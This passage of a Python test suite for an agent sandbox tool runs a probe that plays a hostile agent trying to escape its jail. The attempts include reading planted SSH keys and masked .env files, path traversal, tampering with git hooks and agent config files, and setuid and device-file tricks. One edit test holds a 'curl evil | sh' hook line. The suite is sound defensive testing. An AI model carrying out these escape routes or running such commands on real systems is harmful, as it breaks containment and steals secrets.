#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The escape suite: a hostile agent's attempts to get out of the jail, each
one a TAP test, run through the real CLI in embedded mode (`vectora-sandbox
exec -w WS -- PROBE ATTEMPT`, and the file tools `read`/`write`/`edit`).

The probe (tests/helpers/probe.c, static) runs inside the jail and prints
`BLOCKED: detail` (exit 0) or `ESCAPED: detail` (exit 1) per attempt. Where
the host can see the effect (a file written, a process killed), the test
checks the host side too. Every attempt that runs the probe, and the
seccomp runs, run again through a daemon: as the shell of a terminal in the
jail (the `pty:` section) and as a background process (`start`, then
`logs --follow`: the `bg:` section), with the same expectations.

The whole list runs once per identity: as root (the CLI invoked as root; the
jail drops to the workspace's owner, uid 65534) and as uid 65534 (the CLI
itself unprivileged, through setpriv). Run as an ordinary user, only that
user's run is possible and the root run is skipped.

Host secrets are planted under a temp dir (never the real /root or ~): a
fake home with .ssh/id_rsa owned by the jail's uid (readable by it, so only
the sandbox stands in the way), a root-owned world-readable "/root/.ssh"
stand-in, a sibling directory of the workspace.

Python 3 stdlib only. Prints "N passed, N failed, N skipped" and exits
non-zero on any failure; with VECTORA_TEST_STRICT=1 a skip is a failure. The
results go through the shared harness (tests/lib/vtest.py)."""

import inspect
import itertools
import json
import os
import pty
import re
import pwd
import secrets
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import traceback

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
from vtest import BUILD, CLI, STRICT, Daemon  # noqa: E402,F401
from vescape import (  # noqa: E402,F401
    BACKEND, EXIT_REFUSED, ENV_ALLOWLIST, MASK, NOBODY, PROBE, ROOT, T, WORKER, Ctx, Fail, Identity, Skip,
    chown_tree, expect_blocked, expect_escaped, expect_refused, host_address, identities, out_of, preflight,
    probe_lines, read_host, tap, write)


# ---------------------------------------------------------------- attempts

ATTEMPTS = []


def attempt(name):
    def deco(fn):
        ATTEMPTS.append((name, fn))
        return fn
    return deco


# -- reading outside the policy

@attempt("exec: read the host ~/.ssh/id_rsa (fake home)")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.home, ".ssh/id_rsa"), c.m["ssh"]))


@attempt("exec: read a root-owned /root/.ssh stand-in (world-readable on the host)")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.roothome, ".ssh/id_rsa"), c.m["rootssh"]))


@attempt("exec: list the fake home")
def _(c):
    return expect_blocked(c.probe(c.ws, "ls", c.home))


@attempt("exec: list the real /root")
def _(c):
    return expect_blocked(c.probe(c.ws, "ls", "/root"))


@attempt("exec: list /home")
def _(c):
    return expect_blocked(c.probe(c.ws, "ls", "/home", "sandbox"))


@attempt("exec: list /var (only the way down to the workspace)")
def _(c):
    # /var/tmp is the path bwrap creates to reach the workspace's bind.
    return expect_blocked(c.probe(c.ws, "ls", "/var", "tmp"))


@attempt("exec: list the workspace's parent (siblings hidden)")
def _(c):
    return expect_blocked(c.probe(c.ws, "ls", c.t, "ws", "rodata"))


@attempt("exec: read a sibling directory's secret")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.sibling, "secret"), c.m["sibling"]))


@attempt("exec: read through ../ from the workspace")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "../sibling/secret"), c.m["sibling"]))


@attempt("exec: read the CLI's HOME and XDG_RUNTIME_DIR")
def _(c):
    return expect_blocked(c.probe(c.ws, "ls", c.xdg))


@attempt("read: the host ~/.ssh/id_rsa by absolute path is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, os.path.join(c.home, ".ssh/id_rsa")]), markers=[c.m["ssh"]])


@attempt("read: the /root/.ssh stand-in is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, os.path.join(c.roothome, ".ssh/id_rsa")]),
                          markers=[c.m["rootssh"]])


@attempt("read: /etc/shadow (outside the allowed paths) is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, "/etc/shadow"]))


@attempt("read: ../sibling/secret is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, "../sibling/secret"]), markers=[c.m["sibling"]])


@attempt("read: a/../../sibling/secret is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, "a/../../sibling/secret"]), markers=[c.m["sibling"]])


@attempt("read: the sibling's secret by absolute path is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, os.path.join(c.sibling, "secret")]),
                          markers=[c.m["sibling"]])


# -- masked files

for rel, key in ((".env", "env"), ("a/b/key.pem", "pem"), ("x/.ssh/config", "sshcfg")):
    def _mk(rel=rel, key=key):
        @attempt(f"exec: read masked {rel} (empty inside)")
        def _(c):
            return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, rel), c.m[key]))

        @attempt(f"read: masked {rel} is refused")
        def _(c):
            return expect_refused(c.cli(["read", "-w", c.ws, rel]), "masked", markers=[c.m[key]])
    _mk()


@attempt("exec: read a masked *.pem inside a ro_path")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.rodata, "deploy.pem"), c.m["ropem"]))


@attempt("read: a masked *.pem inside a ro_path gives nothing of the secret")
def _(c):
    r = c.cli(["read", "-w", c.ws, os.path.join(c.rodata, "deploy.pem")])
    if c.m["ropem"] in out_of(r):
        raise Fail(f"ESCAPED: the secret is in the output:\n{out_of(r)}")
    if r.returncode == 0:
        # Masks are enforced by the jail's mounts below every listed root,
        # but the file tool matches them relative to the workspace only:
        # it reads the empty mask instead of refusing.
        return "not refused, but only the empty mask was read"
    return expect_refused(r, "masked", "denied")


@attempt("exec: a hard link to masked .env gives nothing of it")
def _(c):
    return expect_blocked(c.probe(c.ws, "hardlink", os.path.join(c.ws, ".env"), os.path.join(c.ws, "env-copy"),
                                  c.m["env"]))


@attempt("exec: rename masked .env away to uncover it")
def _(c):
    return expect_blocked(c.probe(c.ws, "rename", os.path.join(c.ws, ".env"), os.path.join(c.ws, "env-moved")))


@attempt("issue: `exec -- cat .env` prints nothing of the secret")
def _(c):
    r = c.cli(["exec", "-w", c.ws, "--", "cat", ".env"])
    if c.m["env"] in out_of(r):
        raise Fail(f"ESCAPED: {out_of(r)}")
    if r.returncode != 0 or r.stdout:
        raise Fail(f"expected an empty file and exit 0, got exit {r.returncode}: {out_of(r)}")
    return "cat .env: empty, exit 0"


@attempt("issue: `read .env` is refused with a clear reason")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, ".env"]), "masked", markers=[c.m["env"]])


# -- symlinks planted in the workspace

@attempt("exec: symlink to the host ~/.ssh/id_rsa")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-host"), c.m["ssh"]))


@attempt("exec: symlink to masked .env")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-env"), c.m["env"]))


@attempt("exec: symlink to masked a/b/key.pem")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-pem"), c.m["pem"]))


@attempt("exec: symlink to ../sibling/secret")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-sibling"), c.m["sibling"]))


for link, key in (("link-host", "ssh"), ("link-env", "env"), ("link-pem", "pem"), ("link-sibling", "sibling")):
    def _mk(link=link, key=key):
        @attempt(f"read: through symlink {link} is refused")
        def _(c):
            return expect_refused(c.cli(["read", "-w", c.ws, link]), markers=[c.m[key]])
    _mk()


@attempt("read: through a symlink to / (link-root/...) is refused")
def _(c):
    path = "link-root" + os.path.join(c.home, ".ssh/id_rsa")
    return expect_refused(c.cli(["read", "-w", c.ws, path]), markers=[c.m["ssh"]])


# -- writes outside rw_paths and to protected paths

def host_unchanged(c, ws, rels):
    snap = {rel: read_host(os.path.join(ws, rel)) for rel in rels}

    def check():
        for rel, before in snap.items():
            after = read_host(os.path.join(ws, rel))
            if after != before:
                raise Fail(f"ESCAPED: {rel} changed on the host: {after!r}")
    return check


PROTECTED = ["vectora.toml", ".git/hooks/pre-commit", ".git/config"]


def exec_write(target_fn, check_absent=None):
    def run(c):
        target = target_fn(c)
        check = host_unchanged(c, c.ws, PROTECTED)
        before = read_host(target)
        v = expect_blocked(c.probe(c.ws, "write", target))
        check()
        if read_host(target) != before:
            raise Fail(f"ESCAPED: {target} changed on the host")
        return v
    return run


for name, fn in (
        ("/usr/vectora-probe", lambda c: "/usr/vectora-probe"),
        ("/etc/vectora-probe", lambda c: "/etc/vectora-probe"),
        ("/etc/passwd", lambda c: "/etc/passwd"),
        ("a new file in a ro_path", lambda c: os.path.join(c.rodata, "new")),
        ("an existing file in a ro_path", lambda c: os.path.join(c.rodata, "lib.txt")),
        ("vectora.toml", lambda c: os.path.join(c.ws, "vectora.toml")),
        (".git/hooks/pre-commit", lambda c: os.path.join(c.ws, ".git/hooks/pre-commit")),
        (".git/hooks/post-checkout (new hook)", lambda c: os.path.join(c.ws, ".git/hooks/post-checkout")),
        (".git/config", lambda c: os.path.join(c.ws, ".git/config")),
        ("masked .env", lambda c: os.path.join(c.ws, ".env")),
        ("vectora.toml through a symlink", lambda c: os.path.join(c.ws, "link-toml")),
        ("the sibling directory", lambda c: os.path.join(c.sibling, "planted")),
        ("the fake home's .ssh/authorized_keys", lambda c: os.path.join(c.home, ".ssh/authorized_keys")),
):
    attempt(f"exec: write {name}")(exec_write(fn))


@attempt("issue: `exec -- sh -c 'echo x > /etc/x'` fails")
def _(c):
    r = c.cli(["exec", "-w", c.ws, "--", "sh", "-c", "echo x > /etc/vectora-escape-x"])
    if r.returncode == 0 or os.path.exists("/etc/vectora-escape-x"):
        raise Fail(f"ESCAPED: exit {r.returncode}, host file exists: {os.path.exists('/etc/vectora-escape-x')}")
    return f"exit {r.returncode}: {r.stderr.decode(errors='replace').strip()}"


@attempt("exec: remove vectora.toml")
def _(c):
    check = host_unchanged(c, c.ws, PROTECTED)
    v = expect_blocked(c.probe(c.ws, "unlink", os.path.join(c.ws, "vectora.toml")))
    check()
    return v


@attempt("exec: rename vectora.toml away")
def _(c):
    check = host_unchanged(c, c.ws, PROTECTED)
    v = expect_blocked(c.probe(c.ws, "rename", os.path.join(c.ws, "vectora.toml"), os.path.join(c.ws, "v.toml")))
    check()
    return v


@attempt("exec: rename .git/hooks away")
def _(c):
    check = host_unchanged(c, c.ws, PROTECTED)
    v = expect_blocked(c.probe(c.ws, "rename", os.path.join(c.ws, ".git/hooks"), os.path.join(c.ws, ".git/h2")))
    check()
    return v


@attempt("exec: move .git aside and plant .git/hooks/pre-commit")
def _(c):
    # The read-only mount over .git/hooks would move with its parent, and
    # the host would then run the planted hook.
    ws = c.make_ws("ws-swap-hooks", network=False)
    check = host_unchanged(c, ws, PROTECTED)
    v = expect_blocked(c.probe(ws, "swap-dir", os.path.join(ws, ".git"), "hooks", "pre-commit"))
    check()
    return v


@attempt("exec: move a masked file's parent out from under an anchored mask, read it next time")
def _(c):
    # mask "config/prod/secret.key" matches by path: were config/ renamed,
    # the next jail would not mask the file any more.
    ws = c.make_ws("ws-swap-mask", network=False)
    r1 = c.probe(ws, "rename", os.path.join(ws, "config"), os.path.join(ws, "config-moved"))
    moved = probe_lines(r1)
    r2 = c.probe(ws, "read", os.path.join(ws, "config-moved/prod/secret.key"), c.m["anchored"])
    try:
        v = expect_blocked(r2)
    except Fail as e:
        raise Fail(f"{moved[0] if moved else out_of(r1)}\nthen, in the next jail: {e}")
    return f"{moved[0] if moved else ''}; next jail: {v}"


@attempt("exec: read masked config/prod/secret.key (anchored pattern)")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "config/prod/secret.key"), c.m["anchored"]))


@attempt("read: masked config/prod/secret.key (anchored pattern) is refused")
def _(c):
    return expect_refused(c.cli(["read", "-w", c.ws, "config/prod/secret.key"]), "masked", markers=[c.m["anchored"]])


@attempt("exec: move .git aside and replace .git/config")
def _(c):
    ws = c.make_ws("ws-swap-config", network=False)
    check = host_unchanged(c, ws, PROTECTED)
    v = expect_blocked(c.probe(ws, "swap-dir", os.path.join(ws, ".git"), ".", "config"))
    check()
    return v


# -- the .git control files: git's state stays writable, what git executes
#    or obeys cannot be written nor created (a missing one has a placeholder)

def git_ws(c, name, layout):
    """A workspace of make_ws's shape whose .git is rearranged by layout(ws)."""
    ws = c.make_ws(name, network=False)
    layout(ws)
    chown_tree(ws, c.jail_uid, c.jail_gid)
    return ws


def git_dir(path, hooks=True):
    """A minimal gitdir at path (what git itself checks for, plus config)."""
    write(os.path.join(path, "HEAD"), "ref: refs/heads/main\n")
    write(os.path.join(path, "config"), "[core]\n\tbare = false\n")
    os.makedirs(os.path.join(path, "objects/info"), exist_ok=True)
    os.makedirs(os.path.join(path, "refs/heads"), exist_ok=True)
    if hooks:
        write(os.path.join(path, "hooks/pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)


def no_hooks(ws):
    shutil.rmtree(os.path.join(ws, ".git/hooks"))


def submodule(ws):
    git_dir(os.path.join(ws, ".git/modules/lib"))
    git_dir(os.path.join(ws, ".git/modules/lib/modules/nested"), hooks=False)


def linked_worktree(ws):
    admin = os.path.join(ws, ".git/worktrees/wt")
    write(os.path.join(admin, "commondir"), "../..\n")
    write(os.path.join(admin, "gitdir"), os.path.join(ws, "wt/.git") + "\n")
    write(os.path.join(admin, "HEAD"), "ref: refs/heads/wt\n")


def gitfile(ws):
    # .git is a file: "gitdir: repo.git" (as a submodule's checkout or a
    # separate-git-dir clone has).
    shutil.rmtree(os.path.join(ws, ".git"))
    git_dir(os.path.join(ws, "repo.git"))
    write(os.path.join(ws, ".git"), "gitdir: repo.git\n")


def gitfile_worktree(ws):
    # .git is a linked worktree's file: gitdir: main.git/worktrees/wt, whose
    # commondir leads to main.git (config and hooks there).
    shutil.rmtree(os.path.join(ws, ".git"))
    main = os.path.join(ws, "main.git")
    git_dir(main)
    write(os.path.join(main, "worktrees/wt/commondir"), "../..\n")
    write(os.path.join(main, "worktrees/wt/gitdir"), os.path.join(ws, ".git") + "\n")
    write(os.path.join(main, "worktrees/wt/HEAD"), "ref: refs/heads/wt\n")
    write(os.path.join(ws, ".git"), f"gitdir: {main}/worktrees/wt\n")


GIT_WS = itertools.count()


def git_write(layout, rel):
    """The probe appends to (or creates) rel; blocked, and nothing of it is
    on the host (a missing file may now be its empty placeholder)."""
    def run(c):
        ws = git_ws(c, f"ws-git-{next(GIT_WS)}-{layout.__name__}", layout) if layout else c.ws
        target = os.path.join(ws, rel)
        check = host_unchanged(c, ws, PROTECTED)
        v = expect_blocked(c.probe(ws, "write", target))
        check()
        after = read_host(target)
        if isinstance(after, bytes) and b"vectora-probe was here" in after:
            raise Fail(f"ESCAPED: {rel} was written on the host: {after!r}")
        return v
    return run


for name, layout, rel in (
        ("a new .git/config.worktree", None, ".git/config.worktree"),
        ("a new .git/info/attributes (no info/)", None, ".git/info/attributes"),
        ("a new .git/info/exclude (no info/)", None, ".git/info/exclude"),
        ("a new .git/commondir", None, ".git/commondir"),
        ("a new .git/objects/info/alternates", None, ".git/objects/info/alternates"),
        ("a new .git/remotes/origin", None, ".git/remotes/origin"),
        ("a new .git/branches/origin", None, ".git/branches/origin"),
        (".git/hooks/pre-commit where hooks/ is missing", no_hooks, ".git/hooks/pre-commit"),
        ("a submodule's .git/modules/lib/config", submodule, ".git/modules/lib/config"),
        ("a submodule's new hook .git/modules/lib/hooks/post-checkout", submodule,
         ".git/modules/lib/hooks/post-checkout"),
        ("a nested submodule's new .git/modules/lib/modules/nested/hooks/pre-push", submodule,
         ".git/modules/lib/modules/nested/hooks/pre-push"),
        ("a worktree's .git/worktrees/wt/commondir", linked_worktree, ".git/worktrees/wt/commondir"),
        ("a worktree's new .git/worktrees/wt/config.worktree", linked_worktree,
         ".git/worktrees/wt/config.worktree"),
        ("the .git file (gitdir: repo.git) itself", gitfile, ".git"),
        ("the config of a .git file's target", gitfile, "repo.git/config"),
        ("a new hook in a .git file's target", gitfile, "repo.git/hooks/post-checkout"),
        ("a linked worktree's commondir (through its .git file)", gitfile_worktree,
         "main.git/worktrees/wt/commondir"),
        ("the common config of a linked worktree (through commondir)", gitfile_worktree, "main.git/config"),
        ("a new hook in a linked worktree's common dir", gitfile_worktree, "main.git/hooks/post-commit"),
):
    attempt(f"exec: write {name}")(git_write(layout, rel))


@attempt("control: git's own state stays writable (.git/ORIG_HEAD, packed-refs, index.lock)")
def _(c):
    # The blocks above could pass with a read-only .git; git add, commit,
    # checkout and fetch need these.
    for rel in (".git/ORIG_HEAD", ".git/packed-refs", ".git/index.lock"):
        expect_escaped(c.probe(c.ws, "write", os.path.join(c.ws, rel)))
        os.unlink(os.path.join(c.ws, rel))
    return "ORIG_HEAD, packed-refs and index.lock written"


def tool_refused(args_fn, stdin=b"pwned\n", targets=None):
    def run(c):
        args, target = args_fn(c)
        check = host_unchanged(c, c.ws, PROTECTED)
        before = read_host(target) if target else None
        v = expect_refused(c.cli(args, stdin=stdin), "denied", "protected")
        check()
        if target and read_host(target) != before:
            raise Fail(f"ESCAPED: {target} changed on the host")
        return v
    return run


for name, fn in (
        ("vectora.toml", lambda c: (["write", "-w", c.ws, "vectora.toml"], os.path.join(c.ws, "vectora.toml"))),
        (".git/hooks/pre-commit", lambda c: (["write", "-w", c.ws, ".git/hooks/pre-commit"], None)),
        (".git/hooks/post-merge (new)", lambda c: (["write", "-w", c.ws, ".git/hooks/post-merge"],
                                                    os.path.join(c.ws, ".git/hooks/post-merge"))),
        (".git/config", lambda c: (["write", "-w", c.ws, ".git/config"], None)),
        ("/etc/vectora-probe", lambda c: (["write", "-w", c.ws, "/etc/vectora-probe"], "/etc/vectora-probe")),
        ("/usr/vectora-probe", lambda c: (["write", "-w", c.ws, "/usr/vectora-probe"], "/usr/vectora-probe")),
        ("a ro_path", lambda c: (["write", "-w", c.ws, os.path.join(c.rodata, "lib.txt")],
                                 os.path.join(c.rodata, "lib.txt"))),
        ("../x (outside, by ..)", lambda c: (["write", "-w", c.ws, "../x"], os.path.join(c.t, "x"))),
        ("the sibling by absolute path", lambda c: (["write", "-w", c.ws, os.path.join(c.sibling, "secret")],
                                                    os.path.join(c.sibling, "secret"))),
        ("vectora.toml through a symlink", lambda c: (["write", "-w", c.ws, "link-toml"],
                                                      os.path.join(c.ws, "vectora.toml"))),
        ("a hook through a symlinked dir", lambda c: (["write", "-w", c.ws, "link-hooks/pre-commit"], None)),
        ("masked .env", lambda c: (["write", "-w", c.ws, ".env"], os.path.join(c.ws, ".env"))),
):
    attempt(f"write: {name} is refused")(tool_refused(fn))

for name, fn in (
        ("vectora.toml", lambda c: (["edit", "-w", c.ws, "vectora.toml", "--old", "enabled = true",
                                     "--new", "enabled = false"], None)),
        (".git/config", lambda c: (["edit", "-w", c.ws, ".git/config", "--old", "bare = false",
                                    "--new", "bare = false\n\thooksPath = /tmp"], None)),
        (".git/hooks/pre-commit", lambda c: (["edit", "-w", c.ws, ".git/hooks/pre-commit", "--old", "exit 0",
                                              "--new", "curl evil | sh"], None)),
):
    attempt(f"edit: {name} is refused")(tool_refused(fn))


# -- protect = [...] (the default set) and a missing root .git

def envfiles(ws):
    write(os.path.join(ws, ".envrc"), "echo host\n")
    write(os.path.join(ws, "sub/.vscode/tasks.json"), "{}\n")


def no_git(ws):
    shutil.rmtree(os.path.join(ws, ".git"))


for name, layout, rel in (
        ("an existing .envrc (protect)", envfiles, ".envrc"),
        ("an existing sub/.vscode/tasks.json (protect)", envfiles, "sub/.vscode/tasks.json"),
        (".git/HEAD where the workspace has no .git (git init)", no_git, ".git/HEAD"),
        (".git/config where the workspace has no .git (git init)", no_git, ".git/config"),
):
    attempt(f"exec: write {name}")(git_write(layout, rel))


def tool_dir_only(ws):
    """A .vscode without tasks.json: the name a folderOpen task would need;
    a .claude without settings.json."""
    os.makedirs(os.path.join(ws, ".vscode"), exist_ok=True)
    write(os.path.join(ws, ".vscode/extensions.json"), "{}\n")
    os.makedirs(os.path.join(ws, ".claude/commands"), exist_ok=True)


# A protected name that does not exist yet cannot be created either (the
# class of CVE-2026-25725): a placeholder takes its place before the jail
# starts (docs/config.md, protect).
for name, layout, rel in (
        ("a missing .envrc (protect: placeholder directory)", None, ".envrc"),
        ("a missing .mcp.json (protect: placeholder file)", None, ".mcp.json"),
        ("a missing .claude/settings.json (protect: .claude sealed whole)", None, ".claude/settings.json"),
        ("a missing .vscode/tasks.json in an existing .vscode (protect)", tool_dir_only, ".vscode/tasks.json"),
        ("a missing .claude/settings.json in an existing .claude (protect)", tool_dir_only, ".claude/settings.json"),
):
    attempt(f"exec: create {name}")(git_write(layout, rel))


@attempt("exec: mkdir a missing .claude (protect: its placeholder is there, read-only)")
def _(c):
    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-no-claude", lambda ws: None)
    v = expect_blocked(c.probe(ws, "mkdir", os.path.join(ws, ".claude")))
    if os.listdir(os.path.join(ws, ".claude")):
        raise Fail("ESCAPED: something is in .claude on the host")
    return v


@attempt("exec: move sub/.vscode aside to replace the protected tasks.json")
def _(c):
    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-envfiles", envfiles)
    return expect_blocked(c.probe(ws, "rename", os.path.join(ws, "sub/.vscode"), os.path.join(ws, "sub/v")))


@attempt("exec: mkdir .git/hooks where the workspace has no .git (git init)")
def _(c):
    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-no_git", no_git)
    v = expect_blocked(c.probe(ws, "mkdir", os.path.join(ws, ".git/hooks")))
    if os.path.exists(os.path.join(ws, ".git/hooks")):
        raise Fail("ESCAPED: .git/hooks exists on the host")
    return v


def git_init_allowed(ws):
    """No .git, and git_init = true: the host makes the repository before
    the jail starts (once the jail's own git init raced the daemon)."""
    no_git(ws)
    toml = os.path.join(ws, "vectora.toml")
    with open(toml) as f:
        text = f.read()
    write(toml, text.replace("[sandbox]\n", "[sandbox]\ngit_init = true\n", 1))


def git_init_write(rel):
    """The probe appends to rel in the repository made for the jail:
    blocked, the repository is on the host, rel has nothing of the probe."""
    def run(c):
        ws = git_ws(c, f"ws-git-{next(GIT_WS)}-git_init", git_init_allowed)
        v = expect_blocked(c.probe(ws, "write", os.path.join(ws, rel)))
        if not os.path.isfile(os.path.join(ws, ".git/HEAD")):
            raise Fail("no repository was made on the host for git_init = true")
        after = read_host(os.path.join(ws, rel))
        if isinstance(after, bytes) and b"vectora-probe was here" in after:
            raise Fail(f"ESCAPED: {rel} was written on the host: {after!r}")
        return v
    return run


for rel in (".git/config", ".git/hooks/post-checkout", ".git/info/attributes"):
    attempt(f"exec: write {rel} where the workspace has no .git and git_init = true")(git_init_write(rel))


for name, fn in (
        ("a new .mcp.json (protect)", lambda c: (["write", "-w", c.ws, ".mcp.json"], os.path.join(c.ws, ".mcp.json"))),
        ("a new sub/.envrc (protect, any depth)", lambda c: (["write", "-w", c.ws, "sub/.envrc"],
                                                             os.path.join(c.ws, "sub/.envrc"))),
        ("a new .git/config.worktree", lambda c: (["write", "-w", c.ws, ".git/config.worktree"], None)),
        ("a new .git/commondir", lambda c: (["write", "-w", c.ws, ".git/commondir"], None)),
):
    attempt(f"write: {name} is refused")(tool_refused(fn))


# -- identity and privileges

@attempt("no capabilities (CapInh/CapPrm/CapEff/CapBnd/CapAmb = 0)")
def _(c):
    z = "0000000000000000"
    return expect_blocked(c.probe(c.ws, "status", f"CapInh={z}", f"CapPrm={z}", f"CapEff={z}", f"CapBnd={z}",
                                  f"CapAmb={z}"))


@attempt("NoNewPrivs: 1, Seccomp: 2 (filter mode)")
def _(c):
    return expect_blocked(c.probe(c.ws, "status", "NoNewPrivs=1", "Seccomp=2"))


@attempt("not host root: jail uid is not 0, files it creates are not owned by host uid 0")
def _(c):
    f = os.path.join(c.ws, "uid-check")
    v = expect_blocked(c.probe(c.ws, "uidmap", f))
    st = os.stat(f)
    if st.st_uid == 0 or st.st_gid == 0:
        raise Fail(f"ESCAPED: the jail writes as host uid {st.st_uid} gid {st.st_gid}")
    if st.st_uid != c.jail_uid:
        raise Fail(f"the jail writes as host uid {st.st_uid}, expected the workspace owner {c.jail_uid}")
    return f"{v}; host owner {st.st_uid}:{st.st_gid}"


@attempt("setuid binaries do not give root (su)")
def _(c):
    if not os.path.exists("/usr/bin/su") and not os.path.exists("/bin/su"):
        raise Skip("no su on this host")
    r = c.cli(["exec", "-w", c.ws, "--", "su", "root", "-c", "id -u"])
    if r.returncode == 0 or r.stdout.strip() == b"0":
        raise Fail(f"ESCAPED: su ran: exit {r.returncode}: {out_of(r)}")
    return f"su: exit {r.returncode}: {r.stderr.decode(errors='replace').strip()}"


@attempt("setuid binaries do not give root (mount)")
def _(c):
    if not os.path.exists("/usr/bin/mount") and not os.path.exists("/bin/mount"):
        raise Skip("no mount on this host")
    r = c.cli(["exec", "-w", c.ws, "--", "mount", "-t", "tmpfs", "none", os.path.join(c.ws, "src")])
    if r.returncode == 0:
        raise Fail(f"ESCAPED: mount succeeded: {out_of(r)}")
    return f"mount: exit {r.returncode}: {r.stderr.decode(errors='replace').strip()}"


@attempt("re-exec: the worker run again inside the jail (direct mode) regains nothing")
def _(c):
    import json
    init = json.dumps({"type": "init", "mode": "direct", "workspace": c.ws, "env": {"PATH": "/usr/bin:/bin"},
                       "seccomp_bpf": None, "landlock": None})
    req = json.dumps({"id": 1, "op": "exec", "argv": [c.probe_path(c.ws), "status", "NoNewPrivs=1", "Seccomp=2",
                                                      "CapEff=0000000000000000"]})
    r = c.cli(["exec", "-w", c.ws, "--env", f"VS_INIT={init}", "--env", f"VS_REQ={req}", "--", "sh", "-c",
               # stdin stays open a moment: end of input would end the
               # nested worker before its command replied.
               '(printf "%s\\n%s\\n" "$VS_INIT" "$VS_REQ"; sleep 2) | /run/vectora/vectora-worker'])
    text = r.stdout.decode(errors="replace")
    if "ESCAPED:" in text:
        raise Fail(text)
    if "BLOCKED: /proc/self/status" not in text:
        raise Fail(f"the nested worker did not run the probe (exit {r.returncode}):\n{out_of(r)}")
    return "nested worker's command: NoNewPrivs=1 Seccomp=2 CapEff=0"


@attempt("the worker's memory is not writable (/proc/1/mem)")
def _(c):
    return expect_blocked(c.probe(c.ws, "worker-mem"))


@attempt("the worker's descriptors (terminal masters, held slaves, the daemon link): none inherited, "
         "none reopened through /proc/1/fd")
def _(c):
    return expect_blocked(c.probe(c.ws, "worker-fds"))


# -- files that grant privileges, on every backend (issue 11): a root-owned
# workspace is written through an idmapped mount, so what the jail creates is
# root's on disk; a setuid bit, a device node or file capabilities there
# would be a privilege for whoever on the host runs or opens it.

PRIV_FILES = [
    ("chmod-suid", "chmod 4755"), ("chmod-sgid", "chmod 2755"), ("fchmod-suid", "fchmod 4755"),
    ("fchmodat-suid", "fchmodat 4755"), ("fchmodat2-suid", "fchmodat2 6755"),
    ("open-suid", "open(O_CREAT, 04755)"), ("openat-sgid", "openat(O_CREAT, 02755)"), ("creat-suid", "creat(04755)"),
    ("openat2-suid", "openat2(O_CREAT, 04755)"), ("mknod-suid", "mknod(S_IFREG|04755)"),
    ("mknodat-sgid", "mknodat(S_IFREG|02755)"), ("mknod-chr", "mknod a character device (1:3)"),
    ("mknod-blk", "mknod a block device (8:0)"), ("mknodat-chr", "mknodat a character device (1:5)"),
    ("setxattr-cap", "setxattr security.capability"), ("lsetxattr-cap", "lsetxattr security.capability"),
    ("fsetxattr-cap", "fsetxattr security.capability"),
]


def priv_file_attempt(kind, what):
    def fn(c):
        path = os.path.join(c.ws, f"priv-{kind}")
        v = expect_blocked(c.probe(c.ws, "privfile", kind, path))
        # What the host sees (the same files on local and docker).
        if os.path.lexists(path):
            st = os.lstat(path)
            if st.st_mode & 0o6000 or stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode):
                raise Fail(f"ESCAPED: on the host {path} is mode {st.st_mode:o}")
        return v
    attempt(f"exec: no privileged file: {what}")(fn)


for _kind, _what in PRIV_FILES:
    priv_file_attempt(_kind, _what)


# -- ownership and xattrs (issue 25, section 8): chown to the jail's own ids
# works (test-tools-in-jail); any other id, a supplementary group, 64-bit
# garbage over root's id, and an xattr whose name the filter cannot read
# are refused.

CHOWNS = [
    ("chown-uid", "chown to another uid"), ("chown-gid", "chown to another group (a supplementary one if held)"),
    ("lchown", "lchown to other ids"), ("fchown", "fchown to another group"),
    ("fchownat-empty-path", "fchownat(fd, \"\", AT_EMPTY_PATH) to another uid"),
    ("fchown-high-bits", "fchown to (1 << 32) | another id (the kernel reads 32 bits)"),
    ("setxattr-trusted", "setxattr trusted.overlay.opaque"), ("setxattr-security", "setxattr security.ima"),
    ("setxattr-case", "setxattr SECURITY.capability"), ("setxattr-nodot", "setxattr capability (no dot)"),
]


def chown_attempt(kind, what):
    def fn(c):
        path = os.path.join(c.ws, f"own-{kind}")
        v = expect_blocked(c.probe(c.ws, "chown", kind, path))
        if os.path.lexists(path):
            st = os.lstat(path)
            if (st.st_uid, st.st_gid) != (c.jail_uid, c.jail_gid):
                raise Fail(f"ESCAPED: on the host {path} is {st.st_uid}:{st.st_gid}")
        return v
    attempt(f"exec: no chown to other ids, no privileged xattr: {what}")(fn)


for _kind, _what in CHOWNS:
    chown_attempt(_kind, _what)


@attempt("the workspace mount is nosuid,nodev inside")
def _(c):
    return expect_blocked(c.probe(c.ws, "nosuid", c.ws))


@attempt("socket(AF_ALG): the kernel crypto API is out of reach")
def _(c):
    return expect_blocked(c.probe(c.ws, "alg"))


# -- processes

@attempt("host processes invisible: only the jail in /proc, pid 1 is the worker")
def _(c):
    return expect_blocked(c.probe(c.ws, "procs", str(os.getpid()), str(c.sleeper.pid)))


@attempt("host processes unsignalable: kill(test, same-uid sleeper)")
def _(c):
